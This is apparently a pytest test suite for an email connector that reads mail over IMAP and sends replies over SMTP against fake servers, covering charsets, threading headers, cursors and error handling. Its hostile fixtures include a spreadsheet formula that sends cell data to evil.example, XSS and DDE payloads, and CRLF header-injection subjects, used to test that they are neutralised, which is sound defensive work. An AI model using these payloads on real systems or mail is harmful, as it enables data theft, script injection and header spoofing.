"""E-mail through the contract suite (fake IMAP + SMTP servers), plus what only mail has."""

from __future__ import annotations

import hashlib
import logging
import queue
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.test import override_settings

from panal.channels import configure, intake, replies
from panal.channels.base import AuthFailed, RateLimited, Unavailable, connector_for
from panal.channels.email import connector as email_connector
from panal.channels.email import wire
from panal.channels.models import OutboundMessage
from panal.channels.runner import poll_once
from panal.core import clock
from panal.demo import builders
from panal.listening.models import Mention
from tests.fakes.mail import FakeIMAP, FakeSMTP

from .contract import Contract, Harness, Sample, stored

FIXTURES = Path(__file__).resolve().parents[2] / "src/panal/channels/email/fixtures"
USER = "soporte@acme.example"
PASSWORD = "app-password-1234"
ADDRESS = "soporte@acme.example"

ES_TEXT = (
    "Hola:\n\nMe habéis cobrado dos veces la factura de marzo (nº 2026-0315). ¿Podéis "
    "devolverme el importe duplicado lo antes posible? Ya lo pedí por teléfono y nadie me ha "
    "contestado.\n\nGracias,\nJosé"
)
EN_TEXT = (
    'Thanks, but the tracking link returns "not found". Could you check it?\n'
    "https://track.example.com/4471\n\nSarah\n\n"
    "On Tue, 3 Mar 2026, Acme Support wrote:\n> Your order #4471 has shipped."
)
HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")\n'
    "<script>alert('xss')</script><img src=x onerror=alert(1)>\n"
    "@SUM(1+1)*cmd|' /C calc'!A0\n+1-2 -3\njavascript:alert(document.cookie)"
)
RTL_TEXT = (
    "مرحبا، الإنترنت مقطوع منذ يومين في حي الزهراء. متى سيعود؟\n"
    "שלום, גם אצלי אין חיבור כבר יומיים.\n"
    "Acme 5G \u200fرقم العقد 77-410"
)
EMOJI_TEXT = (
    "Mi familia 👨‍👩‍👧‍👦 lleva una semana sin fibra 😠😠\n"
    "Vivo entre 🇪🇸 y 🇲🇽 y pago las dos líneas 👍🏽🙃\n"
    "Adjunto captura."
)
LONG_TEXT = "\n".join(
    f"Párrafo {i}: el router se reinicia cada noche a las 3:00 y pierdo la conexión 😠; "
    "llamé al 900 100 200 y me dijeron que era cosa mía."
    for i in range(1, 181)
)
HTML_TEXT = "Buenos días,\n\nEl pedido nº 88 llegó roto & sin caja.\n\nSaludos\nMaría"

SAMPLES = [
    # fixture, Message-ID, text, author, thread, parent, lang
    ("message__es.eml", "CAF3k9x2Lm7Q.es@mail.correo.example", ES_TEXT,
     "jose.perez@correo.example", "", "", "es"),
    ("message__en.eml", "20260304.8812.reply@mail.example.com", EN_TEXT,
     "sarah.oneil@example.com", "20260301.0001.root@acme.example",
     "20260303.1234.parent@acme.example", ""),
    ("message__hostile.eml", "hostile.0001@evil.example", HOSTILE_TEXT,
     "attacker@evil.example", "", "", ""),
    ("message__rtl.eml", "rtl-7731@mail.example.ae", RTL_TEXT,
     "layla.haddad@example.ae", "", "", "ar"),
    ("message__emoji.eml", "emoji.5e1f@correo.example", EMOJI_TEXT,
     "lupita@correo.example", "", "", ""),
    ("message__long.eml", "long.180@correo.example", LONG_TEXT,
     "marta.ruiz@correo.example", "", "", ""),
    ("message__html_only.eml", "html-only-88@tienda.example", HTML_TEXT,
     "maria@tienda.example", "", "", ""),
]  # fmt: skip


def load(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def message(
    subject="Consulta",
    body="Hola, tengo una duda.",
    sender="Cliente <cliente@correo.example>",
    msgid="<m-1@correo.example>",
    extra="",
) -> bytes:
    head = f"From: {sender}\r\nTo: {ADDRESS}\r\nSubject: {subject}\r\n"
    if msgid:
        head += f"Message-ID: {msgid}\r\n"
    head += "Date: Tue, 03 Mar 2026 10:00:00 +0000\r\n" + extra
    head += "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
    return head.encode("utf-8") + body.encode("utf-8")


class EmailHarness(Harness):
    kind = "email"
    can_edit = False
    can_delete = False
    why_not = (
        "e-mail has no edits and no retractions: a sent message cannot be changed, and "
        "removing it from our mailbox is not its author taking it back"
    )

    def start(self, **settings):
        self.imap = FakeIMAP(USER, PASSWORD).start()
        self.smtp = FakeSMTP(USER, PASSWORD).start()
        self.account = builders.channel_account(
            self.org, kind="email", slug="acme-mail", name="Acme Soporte", handle=ADDRESS
        )
        values = {
            "imap_url": self.imap.url,
            "username": USER,
            "password": PASSWORD,
            "smtp_url": self.smtp.url,
            "smtp_starttls": "false",
            "address": ADDRESS,
            "stream": "false",
            **settings,
        }
        self.account.settings, self.account.credentials = configure.apply_settings(
            connector_for("email"), values
        )
        self.account.self_ids = [ADDRESS]
        self.account.save()
        self.last = b""

    def stop(self):
        self.imap.stop()
        self.smtp.stop()

    def samples(self):
        return [
            Sample(
                external_id=msgid,
                text=text,
                author_external_id=author,
                thread_external_id=thread or msgid,
                in_reply_to_external_id=parent,
                lang=lang,
                data={"file": name},
            )
            for name, msgid, text, author, thread, parent, lang in SAMPLES
        ]

    def publish(self, sample, event="created", *, new_text=""):
        assert event == "created", "e-mail has no edits or deletes"
        self.last = load(sample.data["file"])
        self.imap.add(self.last)

    def collect(self):
        self.account.refresh_from_db()
        poll_once(self.account)

    def redeliver(self):
        self.imap.add(self.last)  # the same message delivered (or copied) a second time

    def replies_received(self):
        out = []
        for received in self.smtp.received:
            msg = received.message
            out.append(
                {
                    "text": msg.get_body(("plain",)).get_content().replace("\r\n", "\n").strip(),
                    "in_reply_to": str(msg["In-Reply-To"]).strip().strip("<>"),
                    "message": msg,
                    "rcpt_to": received.rcpt_to,
                    "data": received.data,
                }
            )
        return out

    def echo_replies(self):
        for received in self.smtp.received:  # our copy, as when we Bcc ourselves
            self.imap.add(received.data)

    def rate_limit_next(self, seconds):
        self.imap.throttle_next(seconds)
        self.smtp.fail_next(
            421, f"4.7.0 Try again later, closing connection. Retry in {seconds} seconds."
        )

    def cursor_sent(self):
        return self.imap.searches[-1] if self.imap.searches else None


class TestEmail(Contract):
    harness = EmailHarness


@pytest.fixture
def h(org, users):
    harness = EmailHarness(org)
    harness.start()
    harness.users = users
    yield harness
    harness.stop()


def page_of(h, cursor=None):
    connector = connector_for("email")
    session = connector.make_http(h.account)
    try:
        return connector.poll(h.account, session, cursor or {})
    finally:
        session.close()


def reply(h, mention, text="Gracias, lo revisamos."):
    message = replies.send_reply(h.users["agent"], mention, text)
    replies.deliver(message.pk)
    message.refresh_from_db()
    return message


# -- reading ------------------------------------------------------------------------------


def test_fixtures_keep_names_subjects_dates_and_attachments(h):
    for name in ("message__es.eml", "message__hostile.eml", "message__emoji.eml"):
        h.imap.add(load(name))
    h.collect()
    es = stored(h.account, "CAF3k9x2Lm7Q.es@mail.correo.example")
    assert (es.author_display_name, es.title) == (
        "José Pérez",
        "Factura duplicada en marzo — ¿me ayudáis?",
    )
    assert (es.kind, es.visibility, es.reply_capability) == ("email", "private", "private_reply")
    assert es.created_at == datetime(2026, 3, 3, 9, 15, 42, tzinfo=UTC)
    assert es.raw["imap"]["uid"] == 1 and es.raw["headers"]["Subject"].startswith("=?UTF-8?Q?")
    hostile = stored(h.account, "hostile.0001@evil.example")
    # The encoded CR LF in the subject is only text now, on one line.
    assert hostile.title == "<script>alert(1)</script> Bcc: victim@example.net"
    assert hostile.author_display_name == "Acme Support <support@acme.example>"
    assert "<script>" in hostile.text_html and hostile.urls == ["http://evil.example/steal?x="]
    emoji = stored(h.account, "emoji.5e1f@correo.example")
    assert emoji.title == "Sin fibra 👨‍👩‍👧‍👦🇲🇽😠"
    assert emoji.media == [
        {"type": "image", "mime": "image/png", "filename": "captura 😠.png", "size": 70}
    ]
    # BODY.PEEK[]: nothing was marked as read on the server.
    assert all(not m.flags for m in h.imap.messages)


def test_html_only_mail_is_stored_as_plain_text_with_its_markup_kept(h):
    h.imap.add(load("message__html_only.eml"))
    h.collect()
    mention = stored(h.account, "html-only-88@tienda.example")
    assert mention.text == HTML_TEXT
    assert "alert" not in mention.text and "color:red" not in mention.text
    assert mention.text_html.startswith("<html>") and mention.title == "Pedido nº 88 llegó roto"
    assert mention.author_display_name == "María López"


def test_a_charset_lie_is_seen_through(h):
    h.imap.add(load("message__charset_lie.eml"))
    h.collect()
    mention = stored(h.account, "lie-1@correo.example")
    assert mention.text == "El precio único de 19,99 € no aparece en la factura."
    assert (mention.title, mention.author_display_name) == ("Precio único", "Nuño Saúl")


def test_a_broken_message_is_reported_with_its_uid_and_the_rest_stored(h, caplog):
    h.imap.add(load("message__es.eml"))
    h.imap.add(load("broken__no_sender.eml"))
    h.imap.add(load("message__en.eml"))
    page = page_of(h)
    assert [i.external_id for i in page.items] == [
        "CAF3k9x2Lm7Q.es@mail.correo.example",
        "20260304.8812.reply@mail.example.com",
    ]
    assert page.errors == ["UID 2: MailError: no usable From address"]
    with caplog.at_level(logging.WARNING):
        h.collect()
    assert Mention.objects.filter(account=h.account).count() == 2
    assert intake.load_cursor(h.account)["uid"] == 3
    assert "UID 2" in caplog.text


def test_hostile_headers_and_bodies_do_not_stop_the_mailbox(h):
    hostile = [
        message(subject="x" * 300_000, msgid="<huge-subject@correo.example>"),
        message(subject="=?utf-8?q?=0D=0ABcc:_a@b?= =?bogus?x?zz?=", msgid="<words@x>"),
        message(subject="nul\x00byte", body="cuerpo\x00con nul", msgid="<nul@correo.example>"),
        message(msgid="<" + "a" * 2000 + "@long.example>"),
        message(msgid="", body="sin Message-ID"),
        message(sender="=?utf-8?q?=E2=80=AE?= <<<@@@>>>", msgid="<bad-from@x>"),
        b"From: a@b.example\r\nContent-Type: text/plain; charset=x-no-such\r\n"
        b"Message-ID: <nocharset@b.example>\r\n\r\n\xff\xfe caf\xe9",
        b"From: a@b.example\r\nMessage-ID: <badb64@b.example>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n!!!!====***",
        b"From: a@b.example\r\nMessage-ID: <deep@b.example>\r\n"
        + b"".join(
            f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n'.encode()
            for i in range(200)
        )
        + b"Content-Type: text/plain\r\n\r\nhondo\r\n",
        b"\x00\xff\xfe garbage that is no e-mail at all",
        "From: Ñandú <ñandu@correo.example>\r\nSubject: sin codificar áé\r\n"
        "Message-ID: <raw8bit@correo.example>\r\n\r\ncuerpo 8 bits".encode("latin-1"),
    ]
    for raw in hostile:
        h.imap.add(raw)
    h.imap.add(load("message__es.eml"))
    page = page_of(h)
    assert len(page.items) + len(page.errors) == len(hostile) + 1
    h.collect()
    assert stored(h.account, "CAF3k9x2Lm7Q.es@mail.correo.example") is not None
    huge = stored(h.account, "huge-subject@correo.example")
    assert huge is not None and len(huge.title) == 1000
    nul = stored(h.account, "nul@correo.example")
    assert (nul.title, nul.text) == ("nulbyte", "cuerpocon nul")
    long_id = Mention.objects.get(account=h.account, text="Hola, tengo una duda.", title="Consulta")
    assert len(long_id.external_id) == 71
    assert stored(h.account, "nocharset@b.example").text.endswith("caf\xe9")
    raw8 = stored(h.account, "raw8bit@correo.example")
    assert raw8.title == "sin codificar áé" and raw8.author_external_id == "ñandu@correo.example"


def test_a_message_without_message_id_gets_a_stable_hash_id(h):
    raw = message(msgid="", body="sin identificador")
    h.imap.add(raw)
    h.imap.add(raw)  # the same bytes again: the same id
    h.collect()
    mentions = Mention.objects.filter(account=h.account)
    assert mentions.count() == 1
    assert mentions.get().external_id == "sha256:" + hashlib.sha256(raw).hexdigest()


def test_a_reused_message_id_does_not_rewrite_the_first_message(h):
    h.imap.add(message(body="El original.", msgid="<same@correo.example>"))
    h.collect()
    h.imap.add(message(body="Un impostor.", msgid="<same@correo.example>"))
    h.collect()
    mention = stored(h.account, "same@correo.example")
    assert mention.text == "El original." and not mention.versions.exists()


def test_auto_replies_bounces_and_bulk_mail_are_not_mentions(h):
    h.imap.add(load("auto_reply__vacation.eml"))
    h.imap.add(load("bounce__dsn.eml"))
    h.imap.add(message(extra="Precedence: bulk\r\n", msgid="<news@correo.example>"))
    h.imap.add(message(sender="MAILER-DAEMON@mx.example", msgid="<md@mx.example>"))
    h.imap.add(message(sender=f"Acme <{ADDRESS.upper()}>", msgid="<ours@acme.example>"))
    h.collect()
    assert not Mention.objects.filter(account=h.account).exists()
    assert intake.load_cursor(h.account)["uid"] == 5


def test_a_bounce_of_our_reply_marks_it_failed(h):
    h.imap.add(load("message__es.eml"))
    h.collect()
    sent = reply(h, stored(h.account, "CAF3k9x2Lm7Q.es@mail.correo.example"))
    assert sent.status == OutboundMessage.Status.SENT
    dsn = load("bounce__dsn.eml").replace(b"ORIGINAL-ID", sent.external_id.encode())
    h.imap.add(dsn)
    h.collect()
    sent.refresh_from_db()
    assert sent.delivery_state == "failed" and sent.status == OutboundMessage.Status.FAILED
    assert "User unknown" in sent.error


@override_settings(PANAL_MAX_TEXT_CHARS=5000)
def test_a_text_over_the_limit_is_cut_not_lost(h):
    h.imap.add(load("message__long.eml"))
    h.collect()
    mention = stored(h.account, "long.180@correo.example")
    assert len(mention.text) == 5000 and mention.text.endswith("…")
    assert mention.text[:-1] == LONG_TEXT[:4999]


# -- cursors, UIDVALIDITY, paging ---------------------------------------------------------


def test_a_new_uidvalidity_rereads_the_mailbox_without_duplicates(h, caplog):
    for name in ("message__es.eml", "message__en.eml", "message__rtl.eml"):
        h.imap.add(load(name))
    h.collect()
    assert intake.load_cursor(h.account) == {"uidvalidity": h.imap.uidvalidity, "uid": 3}
    h.imap.rebuild(uidvalidity=1_800_000_000)
    h.imap.add(load("message__emoji.eml"))
    with caplog.at_level(logging.WARNING):
        h.collect()
    assert "rebuilt" in caplog.text
    assert h.imap.searches[-1] == "UID 1:*"
    assert intake.load_cursor(h.account) == {"uidvalidity": 1_800_000_000, "uid": 4}
    assert Mention.objects.filter(account=h.account).count() == 4


def test_pages_and_the_uid_star_quirk(h, monkeypatch):
    monkeypatch.setattr(email_connector, "PAGE", 2)
    for index in range(5):
        h.imap.add(message(msgid=f"<p{index}@correo.example>"))
    first = page_of(h)
    assert (len(first.items), first.more, first.cursor["uid"]) == (2, True, 2)
    h.collect()  # the runner keeps asking while `more`
    assert Mention.objects.filter(account=h.account).count() == 5
    cursor = intake.load_cursor(h.account)
    # Past the last UID, "UID 6:*" still matches message 5 on a real server: nothing new.
    again = page_of(h, cursor)
    assert h.imap.searches[-1] == "UID 6:*"
    assert (again.items, again.cursor, again.more) == ([], cursor, False)


# -- streaming ----------------------------------------------------------------------------


def run_stream(h, stop):
    connector = connector_for("email")
    session = connector.make_http(h.account)
    pages: queue.Queue = queue.Queue()

    def follow():
        try:
            for page in connector.stream(h.account, session, {}, stop):
                pages.put(page)
        except Exception as exc:  # handed to the test thread
            pages.put(exc)
        pages.put(None)

    thread = threading.Thread(target=follow, daemon=True)
    thread.start()
    return session, pages, thread


def test_idle_wakes_the_stream_when_mail_arrives(h):
    h.imap.add(load("message__es.eml"))
    stop = threading.Event()
    session, pages, thread = run_stream(h, stop)
    try:
        first = pages.get(timeout=10)
        assert [i.external_id for i in first.items] == ["CAF3k9x2Lm7Q.es@mail.correo.example"]
        assert h.imap.idling.wait(10), "the stream waits in IDLE after catching up"
        h.imap.add(load("message__rtl.eml"))
        woken = pages.get(timeout=10)
        assert [i.external_id for i in woken.items] == ["rtl-7731@mail.example.ae"]
        assert woken.cursor == {"uidvalidity": h.imap.uidvalidity, "uid": 2}
        assert "IDLE" in h.imap.commands
    finally:
        stop.set()
        session.close()  # what the runner does to end a blocking read
        thread.join(10)
    assert not thread.is_alive()


def test_a_dropped_connection_ends_the_stream_as_unavailable(h):
    stop = threading.Event()
    session, pages, thread = run_stream(h, stop)
    try:
        assert pages.get(timeout=10).items == []
        assert h.imap.idling.wait(10)
        h.imap.drop_connections()
        ended = pages.get(timeout=10)
        assert isinstance(ended, Unavailable)
    finally:
        stop.set()
        session.close()
        thread.join(10)


def test_without_idle_the_stream_polls_with_noop(h):
    h.imap.capabilities = "IMAP4rev1 UIDPLUS"
    h.account.settings = {**h.account.settings, "poll_interval": 0.05}
    stop = threading.Event()
    session, pages, thread = run_stream(h, stop)
    try:
        assert pages.get(timeout=10).items == []
        h.imap.add(load("message__es.eml"))
        woken = pages.get(timeout=10)
        assert [i.external_id for i in woken.items] == ["CAF3k9x2Lm7Q.es@mail.correo.example"]
        assert "NOOP" in h.imap.commands and "IDLE" not in h.imap.commands
    finally:
        stop.set()
        session.close()
        thread.join(10)


# -- replying ------------------------------------------------------------------------------


def test_a_reply_carries_the_threading_headers(h):
    h.imap.add(load("message__en.eml"))
    h.collect()
    mention = stored(h.account, "20260304.8812.reply@mail.example.com")
    sent = reply(h, mention, "We fixed the link.\nSorry!")
    assert sent.status == OutboundMessage.Status.SENT, sent.error
    (received,) = h.replies_received()
    msg = received["message"]
    assert msg["In-Reply-To"] == "<20260304.8812.reply@mail.example.com>"
    assert msg["References"] == (
        "<20260301.0001.root@acme.example> <20260303.1234.parent@acme.example> "
        "<20260304.8812.reply@mail.example.com>"
    )
    assert msg["Subject"] == "Re: Your order #4471 has shipped"  # not "Re: Re: ..."
    assert msg["From"].addresses[0].addr_spec == ADDRESS
    assert str(msg["From"]) == "Acme Soporte <soporte@acme.example>"
    assert msg["To"].addresses[0].addr_spec == "sarah.oneil@example.com"
    assert msg["Auto-Submitted"] == "no" and msg["Date"].datetime is not None
    assert msg["Message-ID"].endswith("@acme.example>")
    assert msg["Content-Transfer-Encoding"] == "quoted-printable"
    assert sent.external_id == msg["Message-ID"].strip().strip("<>")
    assert msg.get_content_type() == "text/plain" and msg.get_content_charset() == "utf-8"
    assert received["text"] == "We fixed the link.\nSorry!"
    assert received["rcpt_to"] == ["sarah.oneil@example.com"]
    assert h.smtp.logins == [f"PLAIN:{USER}"]
    # Our copy coming back from another of our addresses is known by its Message-ID.
    copy = received["data"].replace(
        b"From: Acme Soporte <soporte@acme.example>", b"From: x@acme.example"
    )
    h.imap.add(copy)
    h.collect()
    assert Mention.objects.filter(account=h.account).count() == 1
    assert h.imap.searches[-1] == "UID 2:*"


def test_a_reply_goes_to_reply_to_and_encodes_a_spanish_subject(h):
    h.imap.add(
        message(
            subject="=?UTF-8?Q?Devoluci=C3=B3n?=",
            sender="Formulario web <no-reply@tienda.example>",
            extra="Reply-To: Ana Gómez <ana@correo.example>\r\n",
            msgid="<form-1@tienda.example>",
        )
    )
    h.collect()
    sent = reply(h, stored(h.account, "form-1@tienda.example"), "¡Hola, Ana! Ya está. 👍")
    assert sent.status == OutboundMessage.Status.SENT, sent.error
    (received,) = h.replies_received()
    assert received["rcpt_to"] == ["ana@correo.example"]
    assert received["message"]["Subject"] == "Re: Devolución"
    assert received["text"] == "¡Hola, Ana! Ya está. 👍"
    assert received["data"].isascii()  # headers RFC 2047, body transfer-encoded
    assert str(received["message"]["To"]) == "ana@correo.example"


def test_a_crlf_in_a_subject_cannot_inject_headers(h):
    h.imap.add(load("message__hostile.eml"))
    h.collect()
    mention = stored(h.account, "hostile.0001@evil.example")
    # Even a title stored by another path with raw line breaks stays one header.
    Mention.objects.filter(pk=mention.pk).update(
        title="Hola\r\nBcc: victim@example.net\r\nX-Evil: 1\nSubject: owned"
    )
    mention.refresh_from_db()
    sent = reply(h, mention)
    assert sent.status == OutboundMessage.Status.SENT, sent.error
    (received,) = h.replies_received()
    msg = received["message"]
    assert received["rcpt_to"] == ["attacker@evil.example"]
    assert msg["Bcc"] is None and msg["X-Evil"] is None
    assert msg.get_all("Subject") == ["Re: Hola Bcc: victim@example.net X-Evil: 1 Subject: owned"]
    head = received["data"].split(b"\r\n\r\n", 1)[0]
    assert not any(line.lower().startswith((b"bcc:", b"x-evil:")) for line in head.split(b"\r\n"))


def test_smtp_answers_map_to_retry_refusal_or_disconnection(h):
    h.imap.add(load("message__es.eml"))
    h.collect()
    mention = stored(h.account, "CAF3k9x2Lm7Q.es@mail.correo.example")
    h.smtp.fail_next(451, "4.3.0 Temporary local problem", at="DATA")
    temporary = reply(h, mention)
    assert temporary.status == OutboundMessage.Status.QUEUED and "451" in temporary.error
    assert temporary.next_attempt_at > clock.now()
    h.smtp.fail_next(550, "5.1.1 The email account that you tried to reach does not exist", "RCPT")
    refused = reply(h, mention)
    assert refused.status == OutboundMessage.Status.FAILED and "550" in refused.error
    h.smtp.password = "rotated"
    rejected = reply(h, mention)
    h.account.refresh_from_db()
    assert rejected.status == OutboundMessage.Status.FAILED and "535" in rejected.error
    assert h.account.health == "disconnected"
    assert not h.smtp.received


def test_an_unreachable_smtp_server_is_temporary(h):
    h.imap.add(load("message__es.eml"))
    h.collect()
    h.smtp.stop()
    message_ = reply(h, stored(h.account, "CAF3k9x2Lm7Q.es@mail.correo.example"))
    assert message_.status == OutboundMessage.Status.QUEUED and message_.error


def test_replies_need_an_smtp_server(h):
    h.imap.add(load("message__es.eml"))
    h.collect()
    h.account.settings = {**h.account.settings, "smtp_url": ""}
    h.account.save()
    mention = stored(h.account, "CAF3k9x2Lm7Q.es@mail.correo.example")
    assert "smtp_url" in replies.refusal(mention, "Hola")


# -- accounts ------------------------------------------------------------------------------


def test_check_logs_in_to_both_servers_with_auth_login(org):
    harness = EmailHarness(org)
    harness.start()
    harness.smtp.auth_methods = ("LOGIN",)
    try:
        connector = connector_for("email")
        session = connector.make_http(harness.account)
        try:
            found = connector.check(harness.account, session)
        finally:
            session.close()
        assert (found.handle, found.self_ids) == (ADDRESS, (ADDRESS,))
        assert "LOGIN" in harness.imap.commands and "EXAMINE" in harness.imap.commands
        assert harness.smtp.logins == [f"LOGIN:{USER}"]
    finally:
        harness.stop()


def test_a_wrong_imap_password_disconnects_the_account(h):
    h.imap.password = "changed-by-the-user"
    with pytest.raises(AuthFailed, match="AUTHENTICATIONFAILED"):
        h.collect()
    h.account.refresh_from_db()
    assert h.account.health == "disconnected"


def test_a_throttled_session_waits_for_the_hint(h):
    h.imap.add(load("message__es.eml"))
    h.collect()
    h.imap.throttle_next(45)
    with pytest.raises(RateLimited) as raised:
        h.collect()
    assert timedelta(seconds=40) < raised.value.retry_at - clock.now() <= timedelta(seconds=46)


def test_wait_hints_in_provider_texts():
    now = datetime(2026, 3, 1, tzinfo=UTC)
    hint = email_connector.wait_hint
    assert hint("Suggested Backoff Time: 92415 milliseconds", now) == now + timedelta(
        seconds=92.415
    )
    assert hint("4.7.0 Try again in 2 minutes", now) == now + timedelta(minutes=2)
    assert hint("4.7.0 Try again later, closing connection.", now) == now + timedelta(minutes=5)


def test_wire_helpers_on_awkward_headers():
    assert wire.ids_in("<a@b> (Ana's message) <c@d>") == ["a@b", "c@d"]
    assert wire.ids_in("a@b") == ["a@b"]  # no brackets, as some clients write it
    assert wire.ids_in("<" + "x" * 600 + "@y>")[0].startswith("sha256:")
    refs = [f"r{i}@x" for i in range(80)]
    kept = wire.trimmed(refs)
    assert len(kept) == wire.MAX_REFERENCES and kept[0] == "r0@x" and kept[-1] == "r79@x"
    flowed = "Una línea que \nsigue aquí.\n-- \nFirma"
    assert wire.unflow(flowed, delsp=False) == "Una línea que sigue aquí.\n-- \nFirma"
    assert wire.unflow("pala \nbra", delsp=True) == "palabra"
    assert wire.decode_bytes("café".encode(), "us-ascii") == "café"
    assert wire.decode_bytes("café".encode("latin-1"), "utf-8") == "café"
    assert wire.decode_bytes(b"\xff\xfe", "no-such-charset") == "ÿþ"
    assert wire.one_line("a\r\nBcc: b@c\x00", 100) == "a Bcc: b@c"
